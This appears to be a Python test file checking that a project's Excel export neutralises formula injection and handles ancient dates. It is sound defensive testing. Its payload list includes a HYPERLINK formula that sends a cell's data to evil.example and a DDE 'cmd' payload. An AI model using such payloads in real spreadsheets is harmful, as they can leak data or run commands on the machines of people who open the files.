"""Excel exports write user text as text: nothing a user typed becomes a live formula
(issue 9, point 16), and dates Excel cannot show are not written as negative serials."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from benchguard.core.exports import xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?q="&A2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_leading_text_is_kept_as_text(text: str) -> None:
    content = xlsx(title="Visits", header=["Purpose", "Count"], rows=[[text, 3]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cell = sheet["A2"]
    # XML keeps a carriage return as a line feed.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_ordinary_text_numbers_and_dates_stay_as_they_are() -> None:
    content = xlsx(
        title="Register",
        header=["Text", "Number", "Day", "Old day"],
        rows=[["递交上诉材料 = 完成", 7, dt.date(2026, 5, 4), dt.date(1, 1, 1)]],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    text, number, day, old = sheet[2]
    assert (text.value, text.quotePrefix) == ("递交上诉材料 = 完成", False)
    assert number.value == 7
    assert day.is_date and day.value == dt.datetime(2026, 5, 4)
    assert (old.value, old.data_type) == ("0001-01-01", "s")
